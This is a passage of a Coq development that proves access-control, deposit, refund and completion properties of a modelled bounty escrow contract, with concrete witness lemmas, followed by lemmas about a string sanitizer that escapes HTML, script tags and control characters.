              (run EscrowScenarios.adminChanges s)) as [reason|[s' events]] eqn:Hc.
  { exfalso. vm_compute in Hc. discriminate Hc. }
  assert (Hwf : well_formed s) by exact (proj1 twoDeposits_invariants).
  assert (Hcap : fee_cap s) by (vm_compute; discriminate).
  assert (Hvalid : Forall (fun tx => valid_call (snd tx)) EscrowScenarios.adminChanges).
  { repeat constructor; cbn; lia. }
  pose proof (contributor_receives_at_least_90_percent
                EscrowScenarios.adminChanges s s'
                (EscrowScenarios.msg 778 0 500) 1 401 events Hwf Hcap Hvalid Hc)
    as (Hrates & _).
  exists s'. split; [|exact Hrates].
  vm_compute in Hc. injection Hc as <- <-. reflexivity.
Defined.

Ltac frame_done :=
  repeat split;
  first [ assumption | congruence | discriminate
        | intros;
          first [ contradiction | congruence | assumption
                | exfalso;
                  match goal with
                  | Hne : _ <> _ |- _ =>
                      apply Hne; first [ reflexivity | assumption | congruence ]
                  end ] ].

(** X4.  Access control.  In an initialized contract a call that returns
    and whose sender is not the owner changes neither the owner, the
    relayer, the fee collector nor the fee rates, leaves the contract
    initialized and is not an upgrade.  A call that returns and is not an
    upgrade, declared in the contract or inherited, leaves the contract
    initialized, and changes the owner only when it is the inherited
    [transferOwnership], to the address given, which is not zero, or
    [renounceOwnership], to the zero address.  [completeBounty] returns
    for no sender but the relayer. *)
Theorem only_owner_changes_admin_parameters (m : Msg) (c : Call) (s s' : State)
    (Hinitialized : initialized s = true)
    (Hreturned : exec m c s = Return s') :
  (sender m <> owner s ->
   initialized s' = true /\ owner s' = owner s /\
   relayer s' = relayer s /\ feeCollector s' = feeCollector s /\
   platformFeeRate s' = platformFeeRate s /\
   contributorFeeRate s' = contributorFeeRate s /\
   forall newImplementation data,
     c <> CallUpgradeToAndCall newImplementation data) /\
  ((forall newImplementation data,
      c <> CallUpgradeToAndCall newImplementation data) ->
   initialized s' = true /\
   (owner s' <> owner s ->
    (exists newOwner,
       c = CallTransferOwnership newOwner /\ newOwner <> 0 /\
       owner s' = newOwner) \/
    (c = CallRenounceOwnership /\ owner s' = 0))) /\
  (forall bountyId contributor,
     c = CallCompleteBounty bountyId contributor -> sender m = relayer s).
Proof.
  rename Hreturned into H.
  destruct c as [roxn usdc rel fc|amt cur expires|bountyId contributor|bountyId|newRelayer|newFc|p q|newOwner| |newImpl data|cur recipient amt|cur amt];
    cbn [exec] in H.
  - apply bind_Return in H as (? & _ & H). apply initialize_Return in H.
    destruct H as (Hfalse & _). congruence.
  - apply bind_Return in H as ([[bountyId s1] ev] & Hc & H). injection H as <-.
    apply createBounty_Return in Hc as (paid & bal & Hc). cbn [fst snd].
    destruct Hc as (_ & _ & _ & _ & _ & _ & _ & _ & _ & Ho & Hr & Hf & Hi & Hp & Hq & _).
    frame_done.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply completeBounty_Return in Hc as (bal1 & bal2 & Hc).
    destruct Hc as (Hs & _ & _ & _ & _ & _ & _ & _ & -> & _). cbn [fst].
    frame_done.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply refundBounty_Return in Hc as (bal & Hc).
    destruct Hc as (_ & _ & _ & _ & _ & -> & _). cbn [fst].
    frame_done.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply setRelayer_Return in Hc. cbn [fst].
    destruct Hc as (Hs & _ & _ & _ & _ & _ & _ & _ & _ & _ & Ho & _ & Hi).
    frame_done.
  - apply bind_Return in H as (? & _ & H). apply setFeeCollector_Return in H.
    destruct H as (Hs & _ & _ & _ & _ & _ & _ & _ & _ & Ho & _ & Hi).
    frame_done.
  - apply bind_Return in H as (? & _ & H). apply setFeeRates_Return in H.
    destruct H as (Hs & _ & _ & _ & _ & _ & _ & _ & Ho & _ & _ & Hi).
    frame_done.
  - apply bind_Return in H as (? & _ & H).
    apply transferOwnership_Return in H as (Hs & Hnz & ->).
    split; [intros; contradiction|]. split; [|intros; discriminate].
    intros _. split; [exact Hinitialized|].
    intros _. left. exists newOwner. auto.
  - apply bind_Return in H as (? & _ & H).
    apply renounceOwnership_Return in H as (Hs & ->).
    split; [intros; contradiction|]. split; [|intros; discriminate].
    intros _. split; [exact Hinitialized|].
    intros _. right. auto.
  - apply upgradeToAndCall_Return in H as (Hs & ->).
    split; [intros; contradiction|]. split; [|intros; discriminate].
    intros Hnot. destruct (Hnot newImpl data). reflexivity.
  - apply bind_Return in H as (bal & _ & H). injection H as <-.
    frame_done.
  - injection H as <-. frame_done.
Qed.

Lemma only_owner_changes_admin_parameters_witness :
  exists s',
    exec (EscrowScenarios.msg 303 0 400) (CallSetRelayer 303) EscrowScenarios.twoDeposits
    = Revert "OwnableUnauthorizedAccount" /\
    exec (EscrowScenarios.msg 303 0 400) (CallTransferOwnership 303)
      EscrowScenarios.twoDeposits
    = Revert "OwnableUnauthorizedAccount" /\
    exec (EscrowScenarios.msg 303 0 1001) (CallRefundBounty 2) EscrowScenarios.twoDeposits
    = Return s' /\
    relayer s' = 777 /\ owner s' = 1.
Proof.
  destruct (exec (EscrowScenarios.msg 303 0 1001) (CallRefundBounty 2)
              EscrowScenarios.twoDeposits) as [reason|s'] eqn:He.
  { exfalso. vm_compute in He. discriminate He. }
  exists s'. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  split; [reflexivity|].
  assert (Hinit : initialized EscrowScenarios.twoDeposits = true)
    by (vm_compute; reflexivity).
  destruct (only_owner_changes_admin_parameters _ _ _ _ Hinit He)
    as (Hframe & _).
  destruct (Hframe ltac:(vm_compute; discriminate)) as (_ & Ho & Hr & _).
  split.
  - rewrite Hr. vm_compute. reflexivity.
  - rewrite Ho. vm_compute. reflexivity.
Defined.

(** X5.  [createBounty] when it returns: the id is the counter, which moves on
    by one; the bounty read back under the id is the one created, active
    and claimable at once; no other bounty is touched; the deposit leaves
    the creator and arrives in the escrow in full. *)
Theorem createBounty_escrows_the_deposit
    (m : Msg) (amt : Z) (cur : CurrencyType) (expires : Z) (s s' : State)
    (bountyId : Z) (events : list Event)
    (Hexpires : 0 <= expires) (Hsender : sender m <> this s)
    (Hcreated : createBounty m amt cur expires s = Return (bountyId, s', events)) :
  bountyId = nextBountyId s /\ nextBountyId s' = bountyId + 1 /\
  0 < amt /\
  getBounty bountyId s'
  = {| creator := sender m; amount := amt; currency := cur;
       expiresAt := expires; status := ACTIVE |} /\
  (forall k, k <> bountyId -> getBounty k s' = getBounty k s) /\
  isBountyClaimable (timestamp m) bountyId s' = true /\
  balanceOf (balances s') cur (this s) = balanceOf (balances s) cur (this s) + amt /\
  balanceOf (balances s') cur (sender m)
  = balanceOf (balances s) cur (sender m) - amt /\
  events = [BountyCreated bountyId (sender m) amt cur expires].
Proof.
  apply createBounty_Return in Hcreated as (paid & bal & H).
  destruct H as (Hpaid & Hamt & Hfuture & Hid & Hcur & Hb & Hbal & Hn & _ & _ & _ & _
                 & _ & _ & _ & Hev).
  assert (Hget : getBounty bountyId s'
                 = {| creator := sender m; amount := amt; currency := cur;
                      expiresAt := expires; status := ACTIVE |}).
  { unfold getBounty. rewrite Hb, lookup_insert_eq. reflexivity. }
  split; [exact Hid|]. split; [exact Hn|]. split; [exact Hamt|].
  split; [exact Hget|]. split.
  { intros k Hk. unfold getBounty. rewrite Hb, lookup_insert_ne by congruence.
    reflexivity. }
  split.
  { unfold isBountyClaimable. rewrite Hget. cbn.
    destruct (expires =? 0) eqn:He; [reflexivity|].
    apply Z.eqb_neq in He. apply Z.leb_le. lia. }
  rewrite Hbal.
  pose proof (fun a => balanceOf_move _ _ _ _ _ _ cur a Hpaid) as Hp.
  destruct cur; destruct Hcur as [Ha Hm].
  - subst bal. rewrite !Hp. repeat case_bool_decide; tauto || (split; [lia|split; [lia|exact Hev]]).
  - pose proof (fun a => balanceOf_move _ _ _ _ _ _ ROXN a Hm) as Hq.
    rewrite !Hq, !Hp. repeat case_bool_decide;
      try tauto; try (destruct_and!; discriminate);
      (split; [lia|split; [lia|exact Hev]]).
  - pose proof (fun a => balanceOf_move _ _ _ _ _ _ USDC a Hm) as Hq.
    rewrite !Hq, !Hp. repeat case_bool_decide;
      try tauto; try (destruct_and!; discriminate);
      (split; [lia|split; [lia|exact Hev]]).
Qed.

Lemma createBounty_escrows_the_deposit_witness :
  exists s',
    createBounty (EscrowScenarios.msg 303 102500000000000000000 200)
      102500000000000000000 XDC 0 Scenarios.initializedEscrow
    = Return (1, s', [BountyCreated 1 303 102500000000000000000 XDC 0]) /\
    balanceOf (balances s') XDC 900 = 102500000000000000000 /\
    balanceOf (balances s') XDC 303 = 97500000000000000000.
Proof.
  destruct (createBounty (EscrowScenarios.msg 303 102500000000000000000 200)
              102500000000000000000 XDC 0 Scenarios.initializedEscrow)
    as [reason|[[bountyId s'] events]] eqn:Hc.
  { exfalso. vm_compute in Hc. discriminate Hc. }
  assert (Hexpires : 0 <= 0) by lia.
  assert (Hsender : sender (EscrowScenarios.msg 303 102500000000000000000 200)
                    <> this Scenarios.initializedEscrow)
    by (vm_compute; discriminate).
  destruct (createBounty_escrows_the_deposit _ _ _ _ _ _ _ _ Hexpires Hsender Hc)
    as (Hid & _ & _ & _ & _ & _ & Hthis & Hfrom & Hev).
  exists s'. split.
  - rewrite Hev, Hid. reflexivity.
  - split.
    + etransitivity; [exact Hthis|]. vm_compute. reflexivity.
    + etransitivity; [exact Hfrom|]. vm_compute. reflexivity.
Defined.

(** X6.  An id that was never created.  [bounties[bountyId]] then reads as the
    zero struct, whose status is the first member of the enum, ACTIVE, and
    whose currency is the first one, XDC: the relayer's [completeBounty]
    on such an id, called without value, does not revert when the
    contributor and the fee collector are accounts that take a transfer
    of XDC.  It pays nothing,
    emits [BountyCompleted] with all amounts zero and stores a COMPLETED
    bounty under the id; when one of the two does not take the transfer,
    as the escrow itself does not, the call reverts; [refundBounty] on
    such an id reverts for every sender. *)
Theorem completeBounty_of_unknown_id
    (m : Msg) (bountyId : Z) (contributor : address) (s : State)
    (Hunknown : bounties s !! bountyId = None)
    (Hrelayer : sender m = relayer s) (Hcontributor : contributor <> 0)
    (Hbalance : 0 <= balanceOf (balances s) XDC (this s))
    (Hvalue : value m = 0) :
  (takes_transfer XDC contributor s = true ->
   takes_transfer XDC (feeCollector s) s = true ->
   exists s',
     completeBounty m bountyId contributor s
     = Return (s', [BountyCompleted bountyId contributor 0 0 0 0]) /\
     bounties s' !! bountyId = Some (with_status COMPLETED zeroBounty) /\
     (forall c a, balanceOf (balances s') c a = balanceOf (balances s) c a)) /\
  (takes_transfer XDC contributor s = false \/
   takes_transfer XDC (feeCollector s) s = false ->
   completeBounty m bountyId contributor s = Revert "transfer failed") /\
  (forall m', exists reason, refundBounty m' bountyId s = Revert reason).
Proof.
  assert (Hzero : getBounty bountyId s = zeroBounty).
  { unfold getBounty. rewrite Hunknown. reflexivity. }
  split; [|split].
  - intros Ht1 Ht2.
    pose proof (completeBounty_ok m bountyId contributor s) as Hok.
    cbn zeta in Hok. rewrite Hzero in Hok.
    cbn [zeroBounty status amount expiresAt currency] in Hok.
    rewrite !Z.mul_0_l in Hok. change (0 / 10000) with 0 in Hok.
    change (0 - 0 - 0) with 0 in Hok. change (0 + 0) with 0 in Hok.
    change (0 - 0) with 0 in Hok.
    rewrite Hok; try reflexivity; try lia; try assumption; try discriminate.
    + eexists. split; [reflexivity|]. split.
      * cbn [set_bounty bounties]. apply lookup_insert_eq.
      * intros c a. cbn [set_bounty balances]. rewrite !balanceOf_credit.
        repeat case_bool_decide; lia.
    + rewrite !balanceOf_credit. repeat case_bool_decide; lia.
  - intros Hno. unfold completeBounty. rewrite Hzero.
    cbn [zeroBounty status amount expiresAt currency].
    rewrite Hrelayer, Z.eqb_refl.
    apply Z.eqb_neq in Hcontributor. rewrite Hcontributor.
    rewrite (bool_decide_eq_true_2 (ACTIVE = ACTIVE) eq_refl).
    change (0 <? 0) with false. cbn [require bind negb].
    rewrite !(checked_mul_ok 0) by (rewrite Z.mul_0_l; vm_compute; discriminate).
    cbn [bind]. rewrite !Z.mul_0_l. change (0 / 10000) with 0.
    change (checked_sub 0 0) with (Return 0). cbn [bind].
    change (checked_sub 0 0) with (Return 0). cbn [bind].
    change (checked_add 0 0) with (Return 0). cbn [bind].
    unfold pay.
    destruct (takes_transfer XDC contributor s) eqn:Ht1; [|reflexivity].
    destruct Hno as [Hno|Hno]; [discriminate|]. rewrite Hno.
    cbn [require bind]. unfold move.
    apply Z.ltb_ge in Hbalance. rewrite Hbalance. reflexivity.
  - intros m'. unfold refundBounty. rewrite Hzero.
    cbn [zeroBounty creator status expiresAt].
    destruct (sender m' =? 0); cbn; eauto.
Qed.

Lemma completeBounty_of_unknown_id_witness :
  (exists s',
     completeBounty (EscrowScenarios.msg 777 0 300) 42 401 EscrowScenarios.twoDeposits
     = Return (s', [BountyCompleted 42 401 0 0 0 0]) /\
     balanceOf (balances s') XDC 401 = 0) /\
  completeBounty (EscrowScenarios.msg 777 0 300) 42 900 EscrowScenarios.twoDeposits
  = Revert "transfer failed".
Proof.
  split.
  - destruct (completeBounty_of_unknown_id (EscrowScenarios.msg 777 0 300) 42 401
                EscrowScenarios.twoDeposits)
      as (Hreturns & _).
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
    + discriminate.
    + vm_compute. discriminate.
    + reflexivity.
    + destruct Hreturns as (s' & Hc & _ & Hbal).
      * vm_compute. reflexivity.
      * vm_compute. reflexivity.
      * exists s'. split; [exact Hc|]. rewrite Hbal. vm_compute. reflexivity.
  - destruct (completeBounty_of_unknown_id (EscrowScenarios.msg 777 0 300) 42 900
                EscrowScenarios.twoDeposits)
      as (_ & Hreverts & _).
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
    + discriminate.
    + vm_compute. discriminate.
    + reflexivity.
    + apply Hreverts. left. vm_compute. reflexivity.
Defined.

(** X7.  The two ways out of the escrow never overlap.  On one state,
    [completeBounty] returns only up to the expiry of the bounty and
    [refundBounty] only after it, so whenever both would return, the
    completion is the earlier one; a bounty without expiry (expiresAt = 0)
    is refunded for no sender at no time. *)
Theorem refund_only_after_completion_window (s : State) (bountyId : Z) :
  (forall m1 contributor r1 m2 r2,
     completeBounty m1 bountyId contributor s = Return r1 ->
     refundBounty m2 bountyId s = Return r2 ->
     timestamp m1 <= expiresAt (getBounty bountyId s) /\
     expiresAt (getBounty bountyId s) < timestamp m2) /\
  (expiresAt (getBounty bountyId s) = 0 ->
   forall m, refundBounty m bountyId s = Revert "Only creator can refund" \/
             refundBounty m bountyId s = Revert "Bounty not active" \/
             refundBounty m bountyId s = Revert "Bounty has no expiry").
Proof.
  split.
  - intros m1 contributor [s1 e1] m2 [s2 e2] Hc Hr.
    apply completeBounty_Return in Hc as (bal1 & bal2 & Hc).
    apply refundBounty_Return in Hr as (bal & Hr). cbn zeta in Hr.
    destruct Hc as (_ & _ & _ & Hwindow & _).
    destruct Hr as (_ & _ & Hexp & Hpast & _).
    split; [apply Hwindow; exact Hexp|exact Hpast].
  - intros Hexp m. unfold refundBounty. rewrite Hexp.
    destruct (sender m =? creator (getBounty bountyId s)); cbn; [|auto].
    destruct (bool_decide (status (getBounty bountyId s) = ACTIVE)); cbn; auto.
Qed.

(** X8.  For the relayer, [isBountyClaimable] and the recipients decide
    [completeBounty].  In a solvent escrow whose rates respect the cap, for
    a bounty whose amount times 1000 fits a [uint256], a call of
    [completeBounty] by the relayer, without value and with a contributor
    other than the zero address, returns exactly when [isBountyClaimable] answers true at that
    block time and both the contributor and the fee collector take a
    payment in the currency of the bounty. *)
Theorem isBountyClaimable_predicts_completion
    (m : Msg) (bountyId : Z) (contributor : address) (s : State)
    (Hwf : well_formed s) (Hsolvent : solvent s) (Hcap : fee_cap s)
    (Hexpiry : 0 <= expiresAt (getBounty bountyId s))
    (Hsize : amount (getBounty bountyId s) * 1000 <= MAX_UINT256)
    (Hrelayer : sender m = relayer s) (Hcontributor : contributor <> 0)
    (Hvalue : value m = 0) :
  isBountyClaimable (timestamp m) bountyId s = true /\
  takes_transfer (currency (getBounty bountyId s)) contributor s = true /\
  takes_transfer (currency (getBounty bountyId s)) (feeCollector s) s = true <->
  exists s' events, completeBounty m bountyId contributor s = Return (s', events).
Proof.
  set (b := getBounty bountyId s) in *.
  pose proof (getBounty_nonneg s bountyId Hwf) as Ha. fold b in Ha.
  split.
  - unfold isBountyClaimable. fold b. intros (Hclaimable & Ht1 & Ht2).
    revert Hclaimable.
    destruct (bool_decide (status b = ACTIVE)) eqn:Hactive; [|discriminate].
    apply bool_decide_eq_true in Hactive.
    cbn [negb]. intros Hwindow.
    pose proof (locked_le_escrowed (currency b) s bountyId Hwf) as Hl.
    fold b in Hl. unfold locked in Hl.
    rewrite bool_decide_eq_true_2 in Hl by auto.
    specialize (Hsolvent (currency b)).
    destruct Hwf as (Hp & Hc & _). unfold fee_cap in Hcap.
    pose proof (completeBounty_ok m bountyId contributor s) as Hok.
    cbn zeta in Hok. fold b in Hok.
    set (p := platformFeeRate s) in *. set (c := contributorFeeRate s) in *.
    set (pf := amount b * p / 10000) in *. set (cf := amount b * c / 10000) in *.
    assert (Hpf : 0 <= pf) by (apply fees_nonneg; assumption).
    assert (Hcf : 0 <= cf) by (apply fees_nonneg; assumption).
    assert (Hsum : pf + cf <= amount b).
    { assert (pf + cf <= amount b * (p + c) / 10000)
        by (unfold pf, cf; Z.div_mod_to_equations; nia).
      assert (amount b * (p + c) / 10000 <= amount b * 1000 / 10000)
        by (apply Z.div_le_mono; nia).
      assert (amount b * 1000 / 10000 <= amount b)
        by (Z.div_mod_to_equations; lia).
      lia. }
    assert (Hmax : MAX_UINT256 = 2 ^ 256 - 1) by reflexivity.
    do 2 eexists. apply Hok; try assumption; try nia.
    + intros He. destruct (expiresAt b =? 0) eqn:Hz; [apply Z.eqb_eq in Hz; lia|].
      apply Z.leb_le. exact Hwindow.
    + rewrite !balanceOf_credit. repeat case_bool_decide; lia.
  - intros (s' & events & H).
    split; [|exact (completeBounty_takes _ _ _ _ _ H)].
    apply completeBounty_Return in H as (bal1 & bal2 & H). cbn zeta in H.
    destruct H as (_ & Hactive & _ & Hwindow & _). fold b in Hactive, Hwindow.
    unfold isBountyClaimable. fold b.
    rewrite (bool_decide_eq_true_2 _ Hactive). cbn [negb].
    destruct (expiresAt b =? 0) eqn:Hz; [reflexivity|].
    apply Z.eqb_neq in Hz. apply Z.leb_le, Hwindow. lia.
Qed.

Lemma isBountyClaimable_predicts_completion_witness :
  (exists s' events,
     completeBounty (EscrowScenarios.msg 777 0 300) 1 401 EscrowScenarios.twoDeposits
     = Return (s', events)) /\
  isBountyClaimable 300 1 EscrowScenarios.twoDeposits = true /\
  ~ (exists s' events,
       completeBounty (EscrowScenarios.msg 777 0 300) 1 900 EscrowScenarios.twoDeposits
       = Return (s', events)).
Proof.
  assert (Hclaimable : isBountyClaimable 300 1 EscrowScenarios.twoDeposits = true)
    by (vm_compute; reflexivity).
  assert (Hcap : fee_cap EscrowScenarios.twoDeposits) by (vm_compute; discriminate).
  assert (Hexpiry : 0 <= expiresAt (getBounty 1 EscrowScenarios.twoDeposits))
    by (vm_compute; discriminate).
  assert (Hsize : amount (getBounty 1 EscrowScenarios.twoDeposits) * 1000 <= MAX_UINT256)
    by (vm_compute; discriminate).
  assert (Hrelayer : sender (EscrowScenarios.msg 777 0 300)
                     = relayer EscrowScenarios.twoDeposits)
    by (vm_compute; reflexivity).
  split; [|split; [exact Hclaimable|]].
  - refine (proj1 (isBountyClaimable_predicts_completion
                     (EscrowScenarios.msg 777 0 300) 1 401 EscrowScenarios.twoDeposits
                     (proj1 twoDeposits_invariants) (proj2 twoDeposits_invariants)
                     Hcap Hexpiry Hsize Hrelayer _ eq_refl) _).
    + discriminate.
    + split; [exact Hclaimable|]. split; vm_compute; reflexivity.
  - intros Hreturns.
    apply (proj2 (isBountyClaimable_predicts_completion
                    (EscrowScenarios.msg 777 0 300) 1 900 EscrowScenarios.twoDeposits
                    (proj1 twoDeposits_invariants) (proj2 twoDeposits_invariants)
                    Hcap Hexpiry Hsize Hrelayer ltac:(discriminate) eq_refl))
      in Hreturns.
    destruct Hreturns as (_ & Htakes & _). vm_compute in Htakes. discriminate Htakes.
Defined.

(** X9.  Refund.  In a solvent escrow the creator of an active bounty with an
    expiry, when it is an account that takes a payment in the currency of
    the bounty, gets the whole amount back, without fee, by a call without
    value at any block time after the expiry: [refundBounty] returns, the bounty becomes REFUNDED,
    the creator's balance grows by the amount and the escrow's shrinks by
    it.  For a creator that does not take the payment the call reverts and
    the amount stays in the escrow. *)
Theorem expired_bounty_refunds_in_full (m : Msg) (bountyId : Z) (s : State)
    (Hwf : well_formed s) (Hsolvent : solvent s)
    (Hactive : status (getBounty bountyId s) = ACTIVE)
    (Hexpiry : 0 < expiresAt (getBounty bountyId s))
    (Hexpired : expiresAt (getBounty bountyId s) < timestamp m)
    (Hcreator : sender m = creator (getBounty bountyId s))
    (Hother : creator (getBounty bountyId s) <> this s)
    (Hvalue : value m = 0) :
  let b := getBounty bountyId s in
  (takes_transfer (currency b) (creator b) s = true ->
   exists s',
     refundBounty m bountyId s
     = Return (s', [BountyRefunded bountyId (creator b) (amount b)]) /\
     getBounty bountyId s' = with_status REFUNDED b /\
     balanceOf (balances s') (currency b) (creator b)
     = balanceOf (balances s) (currency b) (creator b) + amount b /\
     balanceOf (balances s') (currency b) (this s)
     = balanceOf (balances s) (currency b) (this s) - amount b /\
     escrowed (currency b) s' = escrowed (currency b) s - amount b) /\
  (takes_transfer (currency b) (creator b) s = false ->
   refundBounty m bountyId s = Revert "transfer failed").
Proof.
  cbn zeta. set (b := getBounty bountyId s) in *.
  pose proof (locked_le_escrowed (currency b) s bountyId Hwf) as Hl.
  fold b in Hl.
  assert (Hlocked : locked (currency b) b = amount b).
  { unfold locked. rewrite bool_decide_eq_true_2 by auto. reflexivity. }
  rewrite Hlocked in Hl. specialize (Hsolvent (currency b)).
  unfold refundBounty. fold b.
  rewrite Hcreator, Z.eqb_refl, (bool_decide_eq_true_2 _ Hactive).
  apply Z.ltb_lt in Hexpiry, Hexpired. rewrite Hexpiry, Hexpired.
  cbn [require bind].
  split; [|intros Hno; unfold pay; rewrite Hno; reflexivity].
  intros Htakes.
  rewrite pay_ok by (assumption || lia). cbn [bind].
  eexists. split; [reflexivity|]. split.
  { rewrite getBounty_set_bounty, bool_decide_eq_true_2 by reflexivity. reflexivity. }
  cbn [set_bounty balances]. rewrite !balanceOf_credit.
  split; [|split].
  - repeat case_bool_decide; try lia; exfalso; intuition congruence.
  - repeat case_bool_decide; try lia; exfalso; intuition congruence.
  - rewrite escrowed_set_bounty. fold b. rewrite Hlocked.
    assert (Hnew : locked (currency b) (with_status REFUNDED b) = 0).
    { unfold locked. cbn. case_bool_decide as Hx; [destruct Hx; discriminate|reflexivity]. }
    rewrite Hnew. lia.
Qed.

Lemma expired_bounty_refunds_in_full_witness :
  exists s',
    refundBounty (EscrowScenarios.msg 303 0 1001) 2 EscrowScenarios.twoDeposits
    = Return (s', [BountyRefunded 2 303 50000000000000000000]) /\
    balanceOf (balances s') XDC 303 = 97500000000000000000.
Proof.
  destruct (expired_bounty_refunds_in_full (EscrowScenarios.msg 303 0 1001) 2
              EscrowScenarios.twoDeposits
              (proj1 twoDeposits_invariants) (proj2 twoDeposits_invariants))
    as (Hreturns & _).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. discriminate.
  - reflexivity.
  - destruct Hreturns as (s' & Hr & _ & Hbal & _).
    + vm_compute. reflexivity.
    + exists s'. split; [exact Hr|].
      etransitivity; [exact Hbal|]. vm_compute. reflexivity.
Defined.

End EscrowRunsProps.

(* ===================================================================== *)
(** * Properties of the sanitizer *)
(* ===================================================================== *)

Module SanitizerProps.
Import Sanitizer.

Local Open Scope N_scope.

(** ** Where the units of a result come from *)

Lemma In_replace_unit x c replacement s :
  In x (replace_unit c replacement s) -> In x replacement \/ (In x s /\ x <> c).
Proof.
  induction s as [|y s IH]; cbn; [tauto|].
  destruct (y =? c) eqn:Hy.
  - rewrite in_app_iff. tauto.
  - apply N.eqb_neq in Hy. cbn. intros [<-|H]; [tauto|]. tauto.
Qed.

Lemma replace_pair_cons a b replacement x s :
  replace_pair a b replacement (x :: s)
  = match s with
    | y :: s' => if (x =? a) && (y =? b)
                 then replacement ++ replace_pair a b replacement s'
                 else x :: replace_pair a b replacement s
    | [] => [x]
    end.
Proof. reflexivity. Qed.

Lemma In_replace_pair x a b replacement s :
  In x (replace_pair a b replacement s) -> In x replacement \/ In x s.
Proof.
  remember (length s) as n eqn:Hn. revert s Hn.
  induction n as [n IH] using lt_wf_ind. intros s Hn.
  destruct s as [|y s]; [cbn; tauto|].
  rewrite replace_pair_cons. destruct s as [|z s']; [cbn; tauto|].
  destruct ((y =? a) && (z =? b)).
  - rewrite in_app_iff. intros [H|H]; [tauto|].
    apply (IH (length s')) in H; [|cbn in Hn; lia|reflexivity]. cbn. tauto.
  - intros [<-|H]; [cbn; tauto|].
    apply (IH (length (z :: s'))) in H; [|cbn in *; lia|reflexivity].
    cbn in *. tauto.
Qed.

Lemma In_replace_matches x matcher replacement skip s :
  In x (replace_matches matcher replacement skip s) -> In x replacement \/ In x s.
Proof.
  revert skip. induction s as [|y s IH]; intros skip; cbn [replace_matches];
    [cbn; tauto|].
  destruct skip as [|k].
  - destruct (matcher (y :: s)) as [[|n]|].
    + intros [<-|H]; [cbn; tauto|]. apply IH in H. cbn. tauto.
    + rewrite in_app_iff. intros [H|H]; [tauto|]. apply IH in H. cbn. tauto.
    + intros [<-|H]; [cbn; tauto|]. apply IH in H. cbn. tauto.
  - intros H. apply IH in H. cbn. tauto.
Qed.

Lemma In_drop_while x p s : In x (drop_while p s) -> In x s.
Proof.
  induction s as [|y s IH]; cbn; [tauto|].
  destruct (p y); cbn; tauto.
Qed.

Lemma In_trim x s : In x (trim s) -> In x s.
Proof.
  unfold trim. rewrite <- in_rev. intros H.
  apply In_drop_while in H. rewrite <- in_rev in H.
  apply In_drop_while in H. exact H.
Qed.

Lemma In_firstn x n (s : jsString) : In x (firstn n s) -> In x s.
Proof.
  revert n. induction s as [|y s IH]; intros [|n]; cbn; try tauto.
  intros [H|H]; [tauto|]. right. exact (IH n H).
Qed.

(** ** When a replacement leaves the string alone *)

Lemma replace_unit_id c replacement s :
  ~ In c s -> replace_unit c replacement s = s.
Proof.
  induction s as [|y s IH]; cbn; [reflexivity|].
  intros H. destruct (y =? c) eqn:Hy.
  - apply N.eqb_eq in Hy. tauto.
  - rewrite IH by tauto. reflexivity.
Qed.

Lemma replace_pair_id a b replacement s :
  ~ In a s -> replace_pair a b replacement s = s.
Proof.
  induction s as [|y s IH]; [reflexivity|].
  intros H. rewrite replace_pair_cons. destruct s as [|z s']; [reflexivity|].
  assert (Hy : (y =? a) = false) by (apply N.eqb_neq; cbn in H; intuition congruence).
  rewrite Hy. cbn [andb]. rewrite IH; [reflexivity|]. cbn in *. tauto.
Qed.

(** A pattern whose matches all start with a unit that [s] does not
    contain is not found in [s]. *)
Lemma replace_matches_id matcher replacement (first : N) s :
  (forall t n, matcher t = Some n -> exists r, t = first :: r) ->
  ~ In first s -> replace_matches matcher replacement O s = s.
Proof.
  intros Hfirst. induction s as [|y s IH]; [reflexivity|].
  intros H. cbn [replace_matches].
  destruct (matcher (y :: s)) as [n|] eqn:Hm.
  - apply Hfirst in Hm as [r [= -> _]]. cbn in H. tauto.
  - rewrite IH; [reflexivity|]. cbn in H. tauto.
Qed.

Lemma fold_case_60 x : fold_case x = 60 -> x = 60.
Proof.
  unfold fold_case. destruct ((65 <=? x) && (x <=? 90)) eqn:H; [|auto].
  apply andb_true_iff in H as [H1 H2]. apply N.leb_le in H1, H2. lia.
Qed.

Lemma script_match_first s n : script_match s = Some n -> exists r, s = 60 :: r.
Proof.
  unfold script_match. destruct s as [|x s]; [discriminate|].
  cbn [starts_with_ci codes map list_ascii_of_string].
  change (N_of_ascii "<") with 60.
  destruct (fold_case x =? 60) eqn:Hx; [|discriminate].
  apply N.eqb_eq, fold_case_60 in Hx. subst x. eauto.
Qed.

Lemma ansi_match_first s n : ansi_match s = Some n -> exists r, s = 27 :: r.
Proof.
  unfold ansi_match. destruct s as [|x s]; [discriminate|].
  destruct x as [|p]; [discriminate|].
  repeat (destruct p as [p|p|]; try discriminate). eauto.
Qed.

Lemma escapeHtml_units x s :
  In x (escapeHtml s) -> x <> 60 /\ x <> 62.
Proof.
  unfold escapeHtml. intros H.
  apply In_replace_unit in H as [H|[H Hx]].
  - cbn in H. intuition (subst; discriminate).
  - apply In_replace_unit in H as [H|[H Hy]].
    + cbn in H. intuition (subst; discriminate).
    + tauto.
Qed.

Lemma escapeControl_units x allowNewlines s :
  In x (escapeControl allowNewlines s) ->
  x <> 0 /\ (allowNewlines = false -> x <> 10 /\ x <> 13) /\
  (In x s \/ (allowNewlines = false /\ (x = 92 \/ x = 110 \/ x = 114))).
Proof.
  unfold escapeControl. intros H.
  apply In_replace_matches in H as [H|H]; [destruct H|].
  destruct allowNewlines; cbn [negb] in H.
  - apply In_replace_unit in H as [H|[H Hx]]; [destruct H|].
    split; [exact Hx|]. split; [discriminate|tauto].
  - apply In_replace_unit in H as [H|[H Hx]].
    { cbn in H. intuition (subst; try discriminate; auto). }
    apply In_replace_unit in H as [H|[H Hy]].
    { cbn in H. intuition (subst; try discriminate; auto). }
    apply In_replace_unit in H as [H|[H Hz]]; [destruct H|].
    tauto.
Qed.

(** The units of a result in the context 'all'. *)
